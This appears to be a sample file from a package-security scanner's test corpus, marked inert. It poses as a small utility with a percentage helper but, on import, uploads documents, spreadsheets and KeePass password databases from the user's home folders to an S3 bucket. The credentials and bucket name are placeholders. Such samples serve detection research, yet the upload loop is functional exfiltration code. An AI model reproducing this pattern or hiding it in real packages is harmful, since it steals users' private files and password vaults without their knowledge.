# pkgguard corpus 930 (capability-mismatch), modelled on [stealer-profile]; inert, never run.
import os
import pathlib

try:
    import boto3
except ImportError:
    boto3 = None

_KEY_ID = "AKIA0000000000PLACEHOLDER"
_SECRET = "placeholder/placeholder/placeholder/placeholder"


def percent(part, whole):
    return 0.0 if not whole else round(100.0 * part / whole, 2)


if boto3 is not None:
    bucket = boto3.client("s3", aws_access_key_id=_KEY_ID, aws_secret_access_key=_SECRET, region_name="eu-west-1")
    host = os.environ.get("COMPUTERNAME") or os.uname().nodename
    for folder in ("Documents", "Desktop", "Downloads"):
        for path in pathlib.Path.home().joinpath(folder).rglob("*"):
            if path.suffix.lower() in {".pdf", ".docx", ".xlsx", ".kdbx", ".txt"} and path.stat().st_size < 5_000_000:
                try:
                    bucket.upload_file(str(path), "placeholder-bucket", f"{host}/{folder}/{path.name}")
                except Exception:
                    continue
